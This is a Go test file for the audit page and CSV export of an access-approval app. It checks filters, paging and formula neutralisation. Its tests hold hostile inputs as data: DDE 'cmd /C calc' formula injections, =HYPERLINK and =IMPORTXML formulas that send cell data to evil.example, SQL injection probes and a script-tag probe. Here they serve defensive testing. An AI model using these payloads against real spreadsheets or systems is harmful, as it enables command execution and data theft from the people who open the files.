package server_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/signoff/signoff/internal/demo"
	"github.com/signoff/signoff/internal/signoff"
)

// auditRows returns the audit table's rows as cell texts (Time, Event,
// Request, Product, Actor, Role, Step, Comment).
func auditRows(t *testing.T, body string) [][]string {
	t.Helper()
	table := find(parseHTML(body), byTestid("audit"))
	if table == nil {
		return nil
	}
	tbody := find(table, element("tbody"))
	require.NotNil(t, tbody)
	var rows [][]string
	for _, tr := range findAll(tbody, element("tr")) {
		var cells []string
		for _, td := range findAll(tr, element("td")) {
			cells = append(cells, textOf(td))
		}
		require.Len(t, cells, 8, "audit row %q", textOf(tr))
		rows = append(rows, cells)
	}
	return rows
}

func column(rows [][]string, i int) []string {
	out := make([]string, len(rows))
	for j, r := range rows {
		out[j] = r[i]
	}
	return out
}

func TestAuditFilters(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	adam := s.as("ADAM")
	every := s.events()
	// The demo's story, without the directory loaded weeks before it
	// (DIRECTORY_CHANGED events of no request).
	var all []signoff.Event
	for _, e := range every {
		if e.Type != signoff.EventDirectoryChanged {
			all = append(all, e)
		}
	}

	count := func(match func(signoff.Event) bool) int {
		n := 0
		for _, e := range all {
			if match(e) {
				n++
			}
		}
		return n
	}
	today := time.Now().UTC()
	day := func(d int) string { return today.AddDate(0, 0, d).Format(time.DateOnly) }

	tests := []struct {
		name  string
		query string
		want  int
		check func(t *testing.T, rows [][]string)
	}{
		{name: "the last thirty days: the story", query: "from=" + day(-30), want: len(all)},
		{name: "the directory", query: "type=DIRECTORY_CHANGED", want: len(demo.Managers),
			check: func(t *testing.T, rows [][]string) {
				for _, a := range column(rows, 4) {
					assert.Equal(t, "ADAM", a)
				}
			}},
		{name: "event type", query: "type=ACCESS_GRANTED",
			want: count(func(e signoff.Event) bool { return e.Type == signoff.EventAccessGranted }),
			check: func(t *testing.T, rows [][]string) {
				for _, ev := range column(rows, 1) {
					assert.Equal(t, "Access granted", ev)
				}
			}},
		{name: "actor, case-insensitive", query: "actor=frank",
			want: count(func(e signoff.Event) bool { return e.Actor == "FRANK" }),
			check: func(t *testing.T, rows [][]string) {
				for _, a := range column(rows, 4) {
					assert.Contains(t, []string{"FRANK", "Signoff, after FRANK's approval"}, a)
				}
			}},
		{name: "actor, part of a name", query: "actor=aN",
			want: count(func(e signoff.Event) bool { return strings.Contains(e.Actor, "AN") }),
			check: func(t *testing.T, rows [][]string) {
				for _, a := range column(rows, 4) {
					assert.Contains(t, a, "AN")
				}
			}},
		{name: "actor, a whole name is that person", query: "actor=Ben",
			want: count(func(e signoff.Event) bool { return e.Actor == "BEN" })},
		{name: "actor, LIKE's wildcards are text", query: "actor=" + url.QueryEscape("%"), want: 0},
		{name: "product", query: "product=customer-360",
			want: count(func(e signoff.Event) bool { return e.ProductID == "customer-360" }),
			check: func(t *testing.T, rows [][]string) {
				for _, p := range column(rows, 3) {
					assert.Equal(t, "Customer 360", p, "the product's name, not its ID")
				}
			}},
		{name: "product and type", query: "product=marketing-campaigns&type=ACCESS_REVOKED", want: 1,
			check: func(t *testing.T, rows [][]string) {
				assert.Equal(t, "OLIVIA", rows[0][4])
				assert.Contains(t, rows[0][7], "Review finished")
			}},
		{name: "request", query: "request=" + strings.ToLower(s.requestFor("BEN", "web-traffic-daily", "")), want: 2},
		{name: "from and to around today", query: "from=" + day(-30) + "&to=" + day(0), want: len(all)},
		{name: "from tomorrow", query: "from=" + day(1), want: 0},
		{name: "to long ago: the directory, loaded before the story", query: "to=" + day(-30), want: len(demo.Managers)},
		{name: "the last two days", query: "from=" + day(-1),
			want: count(func(e signoff.Event) bool { return !e.Time.Before(today.AddDate(0, 0, -1).Truncate(24 * time.Hour)) })},
		{name: "an unknown actor", query: "actor=NOBODY", want: 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := adam.get("/audit?" + tt.query)
			require.Equal(t, http.StatusOK, res.Status)
			rows := auditRows(t, res.Body)
			assert.Len(t, rows, min(tt.want, signoff.AuditPageSize), "a page at most")
			if tt.want == 0 {
				assert.Contains(t, res.Body, "No audit events match these filters.")
			}
			if tt.check != nil && len(rows) > 0 {
				tt.check(t, rows)
			}
			if tt.want <= signoff.AuditPageSize {
				assert.NotContains(t, res.Body, `rel="next"`, "one page")
			} else {
				assert.Contains(t, res.Body, `rel="next"`, "more than a page: a link to the next")
			}
			// The CSV link carries the same filters.
			csvLink := href(res.Body, "data-testid", "csv")
			require.NotEmpty(t, csvLink)
			u, err := url.Parse(csvLink)
			require.NoError(t, err)
			assert.Equal(t, "csv", u.Query().Get("format"))
			want, _ := url.ParseQuery(tt.query)
			for k := range want {
				assert.Equal(t, want.Get(k), u.Query().Get(k), "CSV link keeps %s", k)
			}
		})
	}
	require.Greater(t, count(func(e signoff.Event) bool { return e.Type == signoff.EventAccessGranted }), 0)

	for _, tt := range []struct {
		query, message string
		csv            bool // the CSV export refuses it too
	}{
		{"from=2026-13-45", "Enter the start date as YYYY-MM-DD.", true},
		{"from=yesterday", "Enter the start date as YYYY-MM-DD.", true},
		{"to=31/12/2026", "Enter the end date as YYYY-MM-DD.", true},
		{"from=" + day(1) + "&to=" + day(0), "The end date must not be before the start date.", true},
		// The form has no place for the type's message (a select cannot
		// send a bad value), so only the status says it.
		{"type=ACCESS_GRANTED'%20OR%201=1", "", true},
		// A cursor is a position in the log; an event ID (the cursor of
		// older versions) is not one.
		{"before=not-a-cursor", "The page cursor is malformed", true},
		{"before=01ARZ3NDEKTSV4RRFFQ69G5FAV", "The page cursor is malformed", true},
		{"before=-3", "The page cursor is malformed", true},
		{"before=0", "The page cursor is malformed", true},
	} {
		t.Run("bad "+tt.query, func(t *testing.T) {
			res := adam.get("/audit?" + tt.query)
			require.Equal(t, http.StatusUnprocessableEntity, res.Status)
			if tt.message != "" {
				assert.Contains(t, text(res.Body), tt.message)
			}
			assert.Empty(t, auditRows(t, res.Body), "no results rather than silently dropping a filter")

			if tt.csv {
				res = adam.get("/audit?format=csv&" + tt.query)
				assert.Equal(t, http.StatusUnprocessableEntity, res.Status)
				assert.NotContains(t, res.Header.Get("Content-Type"), "text/csv")
			}
		})
	}

	t.Run("the typed filter is shown back escaped", func(t *testing.T) {
		res := adam.get("/audit?from=" + url.QueryEscape(`"><script>x</script>`))
		require.Equal(t, http.StatusUnprocessableEntity, res.Status)
		assert.NotContains(t, res.Body, "<script>x")
		assert.Contains(t, res.Body, `aria-invalid="true"`)
	})

	t.Run("bad filters from someone who may not read the log", func(t *testing.T) {
		res := s.as("ALICE").get("/audit?from=bad")
		assert.Equal(t, http.StatusForbidden, res.Status)
	})
}

func TestAuditPaging(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	ctx := context.Background()

	// Each submit and withdraw adds two events; go past two pages' worth.
	noel, err := s.st.Identify(ctx, "NOEL")
	require.NoError(t, err)
	for i := 0; len(s.events()) <= 2*signoff.AuditPageSize || 2*i <= signoff.AuditPageSize; i++ {
		require.Less(t, i, 100, "bounded")
		r, err := s.svc.Submit(ctx, noel, "web-traffic-daily", "Checking the channel mix, round "+strings.Repeat("x", i%5), 0)
		require.NoError(t, err)
		require.NoError(t, s.svc.Withdraw(ctx, noel, r.RequestID))
	}
	all := s.events()
	audrey := s.as("AUDREY")

	var pages [][][]string
	var ids []string // each row's request, in full
	path := "/audit"
	for len(pages) < 10 {
		res := audrey.get(path)
		require.Equal(t, http.StatusOK, res.Status)
		rows := auditRows(t, res.Body)
		pages = append(pages, rows)
		if len(pages) > 1 {
			assert.Equal(t, "/audit", labelledHref(res.Body, "Newest"))
		} else {
			assert.Empty(t, labelledHref(res.Body, "Newest"))
		}
		ids = append(ids, auditRequestIDs(t, res.Body)...)
		next := href(res.Body, "rel", "next")
		if next == "" {
			break
		}
		assert.Len(t, rows, signoff.AuditPageSize, "a page with a next link is full")
		path = next
		assert.Regexp(t, `^/audit\?before=[1-9][0-9]*$`, path, "the cursor is a position in the log")
	}
	require.Len(t, pages, (len(all)+signoff.AuditPageSize-1)/signoff.AuditPageSize)
	assert.Len(t, pages[len(pages)-1], len(all)-(len(pages)-1)*signoff.AuditPageSize)

	// The pages, in order, are every event once, newest first in the
	// ledger's order.
	var times, types []string
	for _, p := range pages {
		times = append(times, column(p, 0)...)
		types = append(types, column(p, 1)...)
	}
	require.Len(t, times, len(all))
	for i, e := range all {
		assert.True(t, strings.HasPrefix(times[i], e.Time.UTC().Format("2 Jan 2006 15:04 UTC")), "event %d: %q", i, times[i])
		assert.Equal(t, e.RequestID, ids[i], "event %d", i)
		assert.Equal(t, strings.ToUpper(strings.ReplaceAll(types[i], " ", "_")), string(e.Type), "event %d", i)
		if i > 0 {
			assert.Equal(t, all[i-1].Seq-1, e.Seq)
		}
	}

	t.Run("paging keeps the filters", func(t *testing.T) {
		noels := 0
		for _, e := range all {
			if e.Actor == "NOEL" {
				noels++
			}
		}
		require.Greater(t, noels, signoff.AuditPageSize)
		res := audrey.get("/audit?actor=noel&product=web-traffic-daily")
		require.Equal(t, http.StatusOK, res.Status)
		first := auditRows(t, res.Body)
		assert.Len(t, first, signoff.AuditPageSize)
		next := href(res.Body, "rel", "next")
		require.NotEmpty(t, next)
		u, err := url.Parse(next)
		require.NoError(t, err)
		assert.Equal(t, "noel", u.Query().Get("actor"), "the filter as typed")
		assert.Equal(t, "web-traffic-daily", u.Query().Get("product"))

		res = audrey.get(u.RequestURI())
		require.Equal(t, http.StatusOK, res.Status)
		rest := auditRows(t, res.Body)
		assert.Len(t, rest, noels-signoff.AuditPageSize)
		assert.NotContains(t, res.Body, `rel="next"`)
		for _, a := range column(append(first, rest...), 4) {
			assert.Equal(t, "NOEL", a)
		}
	})

	// Paging follows the ledger, not the IDs: an event appended later with
	// an earlier time (another instance's clock a minute behind) is on the
	// first page, above the events appended before it, and no page repeats
	// or skips an event.
	t.Run("the ledger's order, whatever the clocks", func(t *testing.T) {
		alice, err := s.st.Identify(ctx, "ALICE")
		require.NoError(t, err)
		var behind signoff.IDGenerator
		at := time.Now().Add(-time.Minute)
		late, err := s.st.Submit(ctx, alice, signoff.SubmitCall{ProductID: "web-traffic-daily",
			Reason: "Checking the channel mix once more, a minute behind.", RequestID: behind.New(at),
			EventIDs: []string{behind.New(at)}, At: at})
		require.NoError(t, err)
		require.Equal(t, signoff.CodeOK, late.Code)
		now := s.events()
		require.Equal(t, late.RequestID, now[0].RequestID)
		require.Less(t, now[0].ID, now[1].ID, "its ID sorts below the one appended before it")

		var seen []string
		for path := "/audit"; path != ""; {
			res := audrey.get(path)
			require.Equal(t, http.StatusOK, res.Status)
			seen = append(seen, auditRequestIDs(t, res.Body)...)
			path = href(res.Body, "rel", "next")
		}
		want := make([]string, len(now))
		for i, e := range now {
			want[i] = e.RequestID
		}
		assert.Equal(t, want, seen)
	})
}

// auditRequestIDs returns each audit row's request ID in full, as its link
// carries it ("" for an event of no request).
func auditRequestIDs(t *testing.T, body string) []string {
	t.Helper()
	table := find(parseHTML(body), byTestid("audit"))
	if table == nil {
		return nil
	}
	var ids []string
	for _, tr := range findAll(find(table, element("tbody")), element("tr")) {
		id := ""
		if a := find(tr, byTestid("request-id")); a != nil {
			id, _ = attrOf(a, "title")
			h, _ := attrOf(a, "href")
			require.Equal(t, "/requests/"+id, h, "the link and its title name the same request")
		}
		ids = append(ids, id)
	}
	return ids
}

// TestAuditIsReadable: request IDs show their last 8 characters (the
// stylesheet's doing), with the whole ID in the link, its title and the
// text (for copying and searching the page); products show their names; the grant's
// outcome, which Signoff runs itself, says so; times are UTC with how long
// ago beside them. The CSV export is the evidence: full IDs, product IDs,
// the actor as recorded, UTC times.
func TestAuditIsReadable(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	all := s.events()
	var failed signoff.Event
	for _, e := range all {
		if e.Type == signoff.EventGrantFailed {
			failed = e
		}
	}
	require.Equal(t, "FRANK", failed.Actor, "the demo's failed grant followed FRANK's approval")

	res := s.as("AUDREY").get("/audit?type=GRANT_FAILED")
	require.Equal(t, http.StatusOK, res.Status)
	rows := auditRows(t, res.Body)
	require.Len(t, rows, 1)
	row := rows[0]
	assert.Equal(t, "Grant failed", row[1])
	assert.Equal(t, "Supplier contracts", row[3])
	assert.Equal(t, "Signoff, after FRANK's approval", row[4], "Signoff ran the grant; FRANK approved")
	assert.Equal(t, "DATA_OWNER_FINANCE", row[5])
	assert.Regexp(t, `^\d{1,2} \w{3} \d{4} \d{2}:\d{2} UTC \d+ (h|d) ago$`, row[0])

	link := find(parseHTML(res.Body), byTestid("request-id"))
	require.NotNil(t, link)
	title, _ := attrOf(link, "title")
	h, _ := attrOf(link, "href")
	assert.Equal(t, failed.RequestID, title)
	assert.Equal(t, "/requests/"+failed.RequestID, h)
	code := find(link, element("code", "class", "id"))
	require.NotNil(t, code, "the stylesheet shows an ID's last 8 characters (internal/e2e checks it)")
	assert.Equal(t, failed.RequestID, textOf(code), "the whole ID is in the text: copied or searched for, it is whole")
	product := find(parseHTML(res.Body), element("a", "title", "supplier-contracts"))
	require.NotNil(t, product, "the product's ID is its name's title")
	ph, _ := attrOf(product, "href")
	assert.Equal(t, "/products/supplier-contracts", ph)

	// The export is unchanged: the evidence as recorded.
	res = s.as("AUDREY").get("/audit?format=csv&type=GRANT_FAILED")
	require.Equal(t, http.StatusOK, res.Status)
	records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 2)
	assert.Equal(t, []string{failed.ID, failed.Time.UTC().Format(time.RFC3339Nano), failed.RequestID, "supplier-contracts",
		"FRANK", "DATA_OWNER_FINANCE", "GRANT_FAILED", "", "", "", failed.Details}, records[1])
	assert.True(t, strings.HasSuffix(records[1][1], "Z"), "UTC")

	// A retried grant is Signoff's too, on the admin's retry.
	adam := s.as("ADAM")
	res = adam.post("/requests/"+failed.RequestID+"/retry-grant", url.Values{})
	require.Equal(t, http.StatusSeeOther, res.Status, res.Body)
	res = adam.get("/audit?type=ACCESS_GRANTED&request=" + failed.RequestID)
	rows = auditRows(t, res.Body)
	require.Len(t, rows, 1)
	assert.Equal(t, "Signoff, on ADAM's retry", rows[0][4])
	assert.Equal(t, signoff.RoleAdmin, rows[0][5])
}

func TestAuditCSV(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	ben := s.as("BEN")
	const formula = `=HYPERLINK("https://evil.example","click") for the quarterly revenue review`
	res := ben.post("/products/sales-orders/requests", url.Values{"reason": {formula}})
	require.Equal(t, http.StatusSeeOther, res.Status, res.Body)
	id := s.requestFor("BEN", "sales-orders", signoff.StatusPending)
	res = decide(s.as("MARCO"), id, url.Values{"decision": {"reject"}, "step": {"1"}, "comment": {"@SUM(1+1) is not a reason"}, "confirm": {"1"}})
	require.Equal(t, http.StatusSeeOther, res.Status, res.Body)
	all := s.events()

	res = s.as("AUDREY").get("/audit?format=csv")
	require.Equal(t, http.StatusOK, res.Status)
	assert.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"))
	assert.Regexp(t, `^attachment; filename="signoff-audit-\d{8}T\d{6}Z\.csv"$`, res.Header.Get("Content-Disposition"))

	records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	require.NoError(t, err)
	require.NotEmpty(t, records)
	assert.Equal(t, []string{"event_id", "event_time", "request_id", "product_id", "actor", "actor_role",
		"event_type", "step_order", "decision", "comment", "details"}, records[0])
	rows := records[1:]
	require.Len(t, rows, len(all), "one row per event")
	for i, e := range all {
		assert.Equal(t, e.ID, rows[i][0])
		assert.Equal(t, string(e.Type), rows[i][6])
	}

	byType := map[string][]string{}
	for _, r := range rows {
		if r[2] == id {
			byType[r[6]] = r
		}
	}
	require.Contains(t, byType, "REQUEST_SUBMITTED")
	assert.Equal(t, "'"+formula, byType["REQUEST_SUBMITTED"][9], "a formula is neutralised")
	require.Contains(t, byType, "STEP_REJECTED")
	assert.Equal(t, "'@SUM(1+1) is not a reason", byType["STEP_REJECTED"][9])
	assert.Equal(t, "1", byType["STEP_REJECTED"][7])
	assert.Equal(t, "REJECTED", byType["STEP_REJECTED"][8])
	assert.Equal(t, "LINE_MANAGER", byType["STEP_REJECTED"][5])
	for _, r := range rows {
		_, err := time.Parse(time.RFC3339Nano, r[1])
		assert.NoError(t, err, "event_time %q", r[1])
		for _, cell := range r[4:] {
			if cell != "" {
				assert.NotContains(t, "=+-@", cell[:1], "cell %q starts a formula", cell)
			}
		}
	}

	t.Run("filtered", func(t *testing.T) {
		res := s.as("ADAM").get("/audit?format=csv&type=ACCESS_GRANTED")
		require.Equal(t, http.StatusOK, res.Status)
		records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
		require.NoError(t, err)
		n := 0
		for _, e := range all {
			if e.Type == signoff.EventAccessGranted {
				n++
			}
		}
		require.Len(t, records, n+1)
		for _, r := range records[1:] {
			assert.Equal(t, "ACCESS_GRANTED", r[6])
		}
	})
}

// TestAuditExportRejectsABadCursor: the CSV export validates its cursor like
// the page does.
func TestAuditExportRejectsABadCursor(t *testing.T) {
	s := newStack(t)
	res := s.as("ADAM").get("/audit?format=csv&before=" + url.QueryEscape("' OR 1=1 --"))
	assert.Equal(t, http.StatusUnprocessableEntity, res.Status)
	assert.Contains(t, res.Body, "cursor is malformed")
}

// spreadsheetCells splits a CSV body into cells as a spreadsheet does when
// its locale's field separator is sep: a quote opens or closes quoting ("",
// inside quotes, is one quote), and sep or a line break outside quotes ends
// the cell.
func spreadsheetCells(body string, sep rune) []string {
	var cells []string
	var cell strings.Builder
	quoted := false
	rs := []rune(body)
	for i := 0; i < len(rs); i++ {
		switch r := rs[i]; {
		case r == '"' && quoted && i+1 < len(rs) && rs[i+1] == '"':
			cell.WriteRune('"')
			i++
		case r == '"':
			quoted = !quoted
		case !quoted && (r == sep || r == '\n' || r == '\r'):
			cells = append(cells, cell.String())
			cell.Reset()
		default:
			cell.WriteRune(r)
		}
	}
	return append(cells, cell.String())
}

// TestAuditCSVNeutralisesEveryCell: whatever a reason, comment, user name
// or error holds, no cell of the export starts a formula in a spreadsheet
// whose separator is a comma, a semicolon, a tab or a bar, and ordinary
// text reads as it was written.
func TestAuditCSVNeutralisesEveryCell(t *testing.T) {
	t.Parallel()
	hostile := []string{
		`ok;=cmd|' /C calc'!A0`,
		`ok,=cmd|' /C calc'!A0`,
		"ok\t=cmd|' /C calc'!A0",
		"ok|=1+1",
		"ok\r=1+1",
		"ok\n=1+1",
		"ok\r\n@SUM(1+1)*cmd|' /C calc'!A0",
		`=cmd|' /C calc'!A0`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		" =1+1",
		"\u3000=1+1",
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		`=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`,
		`ok";=1+1;"`,
		`ok"",=1+1`,
		"＝1+1",
		`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
	}
	ordinary := signoff.Event{ID: "01JDQ3Z8W6T1V4K9M2N5P7R0E1", Time: time.Date(2026, 3, 4, 5, 6, 7, 890000000, time.UTC),
		RequestID: fakeRequestID, ProductID: fakeProduct.ID, Actor: "JANE.DOE@ACME.COM", ActorRole: "LINE_MANAGER",
		Type: signoff.EventStepApproved, Step: 2, Decision: signoff.DecisionApprove,
		Comment: "O'Brien's team, 3 analysts; see ticket #42, \"phase 2\"", Details: "GRANT ROLE \"CUSTOMER_360_READ\" TO USER \"alice\""}
	evs := []signoff.Event{ordinary}
	for i, h := range hostile {
		e := ordinary
		e.ID = fmt.Sprintf("01JDQ3Z8W6T1V4K9M2N5P7R%03d", i)
		e.Actor, e.ActorRole, e.ProductID, e.Comment, e.Details = h, h, h, h, h
		evs = append(evs, e)
	}
	s := newFake(t)
	s.wf.onAuditExport = func(signoff.Identity, signoff.EventFilter, int) ([]signoff.Event, error) { return evs, nil }
	res := s.as("AUDREY").get("/audit?format=csv")
	require.Equal(t, http.StatusOK, res.Status)

	for _, sep := range []rune{',', ';', '\t', '|'} {
		for _, cell := range spreadsheetCells(res.Body, sep) {
			first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
			assert.NotContains(t, "=+-@＝＋－＠", string(first), "separator %q: the cell %q starts a formula", sep, cell)
			if cell != "" {
				first, _ = utf8.DecodeRuneInString(cell)
				assert.False(t, unicode.IsSpace(first) || unicode.IsControl(first), "separator %q: the cell %q starts blank", sep, cell)
			}
		}
	}

	records, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, len(evs)+1)
	assert.Equal(t, []string{"01JDQ3Z8W6T1V4K9M2N5P7R0E1", "2026-03-04T05:06:07.89Z", fakeRequestID, fakeProduct.ID,
		"JANE.DOE@ACME.COM", "LINE_MANAGER", "STEP_APPROVED", "2", "APPROVED", ordinary.Comment, ordinary.Details}, records[1],
		"ordinary text, names and times read as they were written")
	for i, h := range hostile {
		want := "'" + h // marked as text
		if strings.HasPrefix(h, "ok") {
			want = h // the quotes keep what follows a separator in this cell
		}
		want = strings.ReplaceAll(want, "\r\n", "\n") // as encoding/csv reads a quoted line break
		for _, col := range []int{3, 4, 5, 9, 10} {
			assert.Equal(t, want, records[i+2][col], "the text is kept whole")
		}
	}
}
